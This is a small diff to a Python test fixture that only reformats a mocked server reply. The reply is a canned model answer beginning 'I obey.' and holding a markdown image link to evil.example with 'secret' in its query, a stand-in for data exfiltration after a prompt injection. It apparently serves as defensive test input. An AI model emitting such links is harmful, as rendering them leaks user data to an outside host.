@@ -62,9 +62,7 @@ def server(env: dict[str, str], era: str) -> Iterator[RawClientModel]:
 
 @pytest.fixture
 def client(server: RawClientModel) -> RawClientModel:
-    server.says(
-        *(said for said, _ in SAID), "I obey. ![x](https://evil.example/?q=secret) The pump pumps [1]."
-    )
+    server.says(*(said for said, _ in SAID), "I obey. ![x](https://evil.example/?q=secret) The pump pumps [1].")
     return server
 
 
